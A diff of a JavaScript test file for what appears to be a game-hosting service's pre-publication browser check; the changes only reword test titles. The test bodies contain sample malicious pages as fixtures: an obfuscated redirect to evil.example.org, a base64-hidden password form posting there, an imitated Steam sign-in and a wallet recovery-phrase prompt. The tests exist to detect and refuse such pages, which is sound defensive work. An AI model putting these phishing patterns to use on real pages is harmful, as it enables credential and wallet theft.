@@ -46,7 +46,7 @@ describe('opening a version in a browser before it goes live', () => {
     assert.equal((await service.get(String(clipUrl).replace(/.{5}\.webp$/u, '00000.webp'))).status, 404);
   });
 
-  it('looks at a preview too; its picture goes with the version', async () => {
+  it('checks a preview too, and its picture belongs to that version', async () => {
     const files = { 'index.html': `<!doctype html>${drawn}<script>undefinedFn();</script>` };
     const { version } = await publishFiles(creator, files);
     await service.settle();
@@ -69,7 +69,7 @@ describe('opening a version in a browser before it goes live', () => {
     assert.ok((await stored()) < before, 'its file is there still');
   });
 
-  it('is at the origin where the game will be, as its players will', async () => {
+  it('opens it at the origin where the game will be, as players will', async () => {
     const { page } = await checked(
       `${drawn}<script>console.error(location.origin, isSecureContext, navigator.webdriver, /Headless/.test(navigator.userAgent))</script>`,
     );
@@ -79,7 +79,7 @@ describe('opening a version in a browser before it goes live', () => {
     );
   });
 
-  it('sees WebGL draw', async () => {
+  it('sees what WebGL draws', async () => {
     const { version, page } = await checked({
       'index.html': `<!doctype html><body style="margin:0"><canvas width="1280" height="720"></canvas><script>
         const gl = document.querySelector('canvas').getContext('webgl2');
@@ -108,7 +108,7 @@ describe('opening a version in a browser before it goes live', () => {
     assert.deepEqual(rulesOf(report).sort(), ['warn page-blank', 'warn page-errors']);
   });
 
-  it('tells of what is kept where players lose it', async () => {
+  it('warns of data stored where players will lose it', async () => {
     const { version, report } = await checked(
       `${drawn}<script>
         localStorage.setItem('best', '7');
@@ -122,7 +122,7 @@ describe('opening a version in a browser before it goes live', () => {
     assert.match(finding?.fix ?? '', /localStorage.*Spaceport\.saves/u);
   });
 
-  it('says where an error comes from, in files of the version', async () => {
+  it('names the place of an error in the files of the version', async () => {
     const { version, report, page } = await checked({
       'index.html': `<!doctype html>${drawn}<script src="js/game.js"></script>`,
       'js/game.js': 'function start() {\n  undefinedFn();\n}\nstart();',
@@ -141,7 +141,7 @@ describe('opening a version in a browser before it goes live', () => {
     assert.match(String(finding?.fix), /Fix js\/game\.js at line 2\./u);
   });
 
-  it('knows package names and sources that no build has run over', async () => {
+  it('explains a bare package name as source that needs a build', async () => {
     const { report } = await checked({
       'index.html': `<!doctype html>${drawn}<script type="module" src="/main.js"></script>`,
       'main.js': 'import * as THREE from "three";',
@@ -150,7 +150,7 @@ describe('opening a version in a browser before it goes live', () => {
     assert.match(String(report.findings[0]?.fix), /package name "three": run the build/u);
   });
 
-  it('leaves out what is no fault of the page', async () => {
+  it('does not report blocked autoplay or failed analytics requests', async () => {
     const { report, page } = await checked(`${drawn}<audio></audio><script>
       const wait = document.querySelector('audio');
       Promise.reject(new DOMException("play() failed because the user didn't interact with the document first. https://goo.gl/xX8pDD", 'NotAllowedError'));
@@ -196,7 +196,7 @@ describe('opening a version in a browser before it goes live', () => {
     assert.ok(page.failedRequests.every(({ reason }) => reason !== ''));
   });
 
-  it('refuses a page that goes away by itself, however it is written', async () => {
+  it('refuses a page that navigates to another site, however it is written', async () => {
     const { version, report } = await checked(
       `${drawn}<script>setTimeout(() => { window['loc' + 'ation'] = ['https:', '', 'evil.example.org', 'x'].join('/'); }, 1500)</script>`,
     );
@@ -205,7 +205,7 @@ describe('opening a version in a browser before it goes live', () => {
     assert.match(String(version.reason), /goes to evil\.example\.org on its own/u);
   });
 
-  it('lets a page go on to another page of its own', async () => {
+  it('lets a page navigate to another page of its own', async () => {
     const { version } = await checked({
       'index.html': '<!doctype html><script>setTimeout(() => { location = "two.html"; }, 500)</script>',
       'two.html': `<!doctype html>${drawn}Two`,
@@ -213,7 +213,7 @@ describe('opening a version in a browser before it goes live', () => {
     assert.equal(version.status, 'live');
   });
 
-  it('refuses a password form that scripts draw and that posts elsewhere, also in a closed shadow root', async () => {
+  it('refuses a scripted password form that posts to another site, also in a closed shadow root', async () => {
     const form = `atob('${Buffer.from('<form action="https://evil.example.org/in"><input type="password"></form>').toString('base64')}')`;
     for (const into of [
       'document.body',
@@ -225,7 +225,7 @@ describe('opening a version in a browser before it goes live', () => {
     }
   });
 
-  it('refuses a sign-in of another service, wherever it posts to', async () => {
+  it('refuses an imitated sign-in of another service, wherever it posts to', async () => {
     const markup = Buffer.from('<h1>Sign in to your Steam account</h1><input type="password">').toString(
       'base64',
     );
@@ -241,7 +241,7 @@ describe('opening a version in a browser before it goes live', () => {
     );
   });
 
-  it('refuses a request for a wallet’s words that scripts draw', async () => {
+  it('refuses a scripted form that asks for the words of a wallet', async () => {
     const markup = Buffer.from('Enter your wallet recovery phrase <textarea></textarea>').toString('base64');
     const { version, report } = await checked(
       `${drawn}<script>document.body.innerHTML = atob('${markup}');</script>`,
@@ -250,7 +250,7 @@ describe('opening a version in a browser before it goes live', () => {
     assert.deepEqual(rulesOf(report), ['refuse seed-phrase-form']);
   });
 
-  it('closes windows and turns dialogs down', async () => {
+  it('closes new windows and dismisses dialogs', async () => {
     const { version, page, report } = await checked(
       `${drawn}<script>alert(1); confirm(2); prompt(3); window.open('/'); onbeforeunload = () => 'stay';
       Notification.requestPermission().then((answer) => console.error(answer));</script>`,
